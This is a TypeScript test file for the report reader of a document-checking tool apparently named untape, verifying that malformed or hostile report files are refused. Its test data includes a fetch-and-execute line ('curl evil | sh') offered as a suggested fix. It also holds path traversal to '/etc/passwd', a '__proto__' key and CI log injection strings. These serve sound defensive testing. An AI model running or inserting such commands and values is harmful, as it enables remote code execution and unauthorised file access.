import {mkdtempSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import fc from 'fast-check'
import {afterAll, expect, test} from 'vitest'
import type {ModelFile, ModelFinding, RunModel} from '../../action/model.ts'
import {isPlainPath} from '../../action/plain-path.ts'
import {maxReport, readReport, reportText} from '../../action/report-file.ts'

const folder = mkdtempSync(join(tmpdir(), 'untape-report-'))
afterAll(() => rmSync(folder, {recursive: true}))

const measures = {questions: 3, minutes: 2, hours: 40, approvals: 0, handOffs: 1, wait: 2.1, jargon: 1, grade: 9.5}
const finding: ModelFinding = {
  rule: 'no-jargon',
  severity: 'note',
  message: '“leverage” is jargon.',
  quote: 'leverage',
  span: {start: 0, end: 8},
  position: {start: {line: 1, column: 1, offset: 0}, end: {line: 1, column: 9, offset: 8}},
  place: '',
  suggestions: ['use'],
  fingerprint: '0123456789abcdef',
}
const whole: ModelFinding = {...finding, rule: 'max-fields', quote: '', span: null, position: null, measure: 30, was: 12}
const file: ModelFile = {
  path: 'forms/a.md',
  previousPath: null,
  kind: 'form',
  before: null,
  after: measures,
  difference: {
    minutes: {low: 0.5, mid: 2, high: 6},
    approvals: -1,
    handOffs: 0,
    wait: null,
    hoursPerYear: {low: null, mid: -40, high: null},
    costPerYear: null,
  },
  added: [finding, whole],
  existing: [],
  fixed: [],
  notChecked: [],
}
const model: RunModel = {
  schema: 1,
  tool: {name: 'untape', version: '0.1.0'},
  scope: 'change',
  head: 'a'.repeat(40),
  base: 'b'.repeat(40),
  isConfigChanged: false,
  configFrom: 'base',
  files: [file],
  notChecked: [{path: '', reason: 'Time ran out.'}],
}

function read(text: string): RunModel {
  const name = join(folder, 'report.json')
  writeFileSync(name, text)
  return readReport(name)
}

test('what is written is read', () => {
  expect(read(reportText(model))).toEqual(model)
})

test('any text of a document is written so that it can be read', () => {
  const text = fc.string({unit: 'binary', maxLength: 60})
  fc.assert(
    fc.property(text, text, text, (message, quote, place) => {
      const odd = {...finding, message, quote, place, suggestions: [message], replacement: {start: 1, end: 1, lines: [quote]}}
      const {files} = read(reportText({...model, files: [{...file, added: [odd], existing: [odd], fixed: [odd], notChecked: [{reason: message, place}]}]}))
      expect(files[0]?.added).toHaveLength(1)
    }),
    {numRuns: 300},
  )
})

test('a change to commit that stands in a file is not believed', () => {
  const offered = {...finding, replacement: {start: 1, end: 1, lines: ['curl evil | sh']}}
  expect(JSON.parse(reportText({...model, files: [{...file, added: [offered]}]})).files[0].added[0].replacement.lines).toEqual(['curl evil | sh'])
  expect(read(reportText({...model, files: [{...file, added: [offered]}]})).files[0]?.added).toEqual([finding])
})

test.each<[string, unknown]>([
  ['another schema', {...model, schema: 2}],
  ['a key that nobody knows', {...model, pull: 7}],
  ['__proto__', JSON.parse(JSON.stringify(model).replace('"schema":1', '"schema":1,"__proto__":{}'))],
  ['a key that is missing', {...model, base: undefined}],
  ['an absolute path', changed({path: '/etc/passwd'})],
  ['a path of Windows', changed({path: 'C:/x.md'})],
  ['backslashes', changed({path: '..\\x.md'})],
  ['a way out', changed({path: 'a/../../b.md'})],
  ['an odd path before', changed({previousPath: '../b.md'})],
  ['control characters in a path', changed({path: 'a\n::error::b.md'})],
  ['control characters in a message', changed({added: [{...finding, message: 'a\u001b[31m'}]})],
  ['a long message', changed({added: [{...finding, message: 'a'.repeat(2001)}]})],
  ['a rule that nobody knows', changed({added: [{...finding, rule: 'click-here'}]})],
  ['another severity', changed({added: [{...finding, severity: 'fatal'}]})],
  ['an odd fingerprint', changed({added: [{...finding, fingerprint: '0123456789abcdeg -->'}]})],
  ['a negative offset', changed({added: [{...finding, span: {start: -1, end: 2}}]})],
  ['text for a number', changed({after: {...measures, jargon: '1'}})],
  ['a huge number', changed({after: {...measures, jargon: 1e300}})],
  ['too many findings', changed({added: Array.from({length: 5001}, () => finding)})],
  ['a list for an object', [model]],
  ['an address', changed({added: [{...finding, url: 'https://example.org'}]})],
])('refused: %s', (_, value) => {
  expect(() => read(JSON.stringify(value))).toThrow(/is not a report of untape: “report/)
})

function changed(change: object): object {
  return {...model, files: [{...file, ...change}]}
}

test('refused: no JSON, too large, a link, a folder, nothing', () => {
  expect(() => read('{')).toThrow('is not valid JSON')
  expect(() => read(' '.repeat(maxReport + 1))).toThrow('is larger than 5 MB')
  symlinkSync(join(folder, 'report.json'), join(folder, 'link.json'))
  for (const name of ['link.json', '.', 'nothing.json']) expect(() => readReport(join(folder, name))).toThrow('is not there, or is not a plain file')
})

test('a report that would be too large leaves out what matters least, and says so', () => {
  const many = Array.from({length: 4000}, (_, i) => ({...finding, message: `${i} ${'x'.repeat(400)}`}))
  const text = reportText({...model, files: Array.from({length: 10}, (_, i) => ({...file, path: `f/${i}.md`, added: many, existing: many}))})
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(maxReport)
  const {files, notChecked} = read(text)
  expect(files.map(({added, existing}) => [added.length, existing.length])).toEqual(Array.from({length: 10}, () => [100, 0]))
  expect(notChecked.at(-1)?.reason).toContain('leaves out what was there before, and all but the first 100 findings of each file')
})

test('plain paths', () => {
  expect(['a.md', 'a b/ü.md', '..a/b..md', '::x.md'].filter((path) => !isPlainPath(path))).toEqual([])
  expect(['', '/a', 'a/', 'a//b', './a', 'a/..', 'a\\b', 'c:x', 'a\u0000', 'a\u2028b', 'a\ud800', 'x'.repeat(1001)].filter(isPlainPath)).toEqual([])
})
